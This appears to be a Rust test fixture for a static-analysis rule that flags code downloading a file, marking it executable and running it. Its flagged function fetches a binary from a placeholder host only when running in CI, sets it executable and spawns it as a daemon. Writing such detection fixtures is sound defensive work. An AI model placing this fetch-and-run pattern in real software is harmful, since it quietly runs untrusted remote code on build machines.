// Fixture for generic-download-chmod-exec (Rust).
// RULEID: reqwest download, from_mode(0o755), Command::new on the saved file (a crate that fires
//   in CI); a ureq download in a build script.
// OK: running a compiler from a build script with no download before it.
use std::fs;
use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::process::Command;

fn compile_proto() {
    let docs = "https://docs.protobuf-tools.example/guide";
    let out = std::env::var("OUT_DIR").unwrap();
    // ok: generic-download-chmod-exec
    Command::new("protoc").args(["--rust_out", &out, "proto/api.proto"]).status().unwrap();
    println!("cargo:rerun-if-changed=proto/api.proto {}", docs);
}

fn warm_cache() {
    if std::env::var("CI").is_err() {
        return;
    }
    let dest = std::env::temp_dir().join("cache-helper");
    let body = reqwest::blocking::get("https://dl.cache-helper.example/x86_64/helper")
        .and_then(|r| r.bytes())
        .unwrap();
    let mut f = fs::File::create(&dest).unwrap();
    f.write_all(&body).unwrap();
    fs::set_permissions(&dest, fs::Permissions::from_mode(0o700)).unwrap();
    // ruleid: generic-download-chmod-exec
    let _ = Command::new(&dest).arg("--daemon").spawn();
}
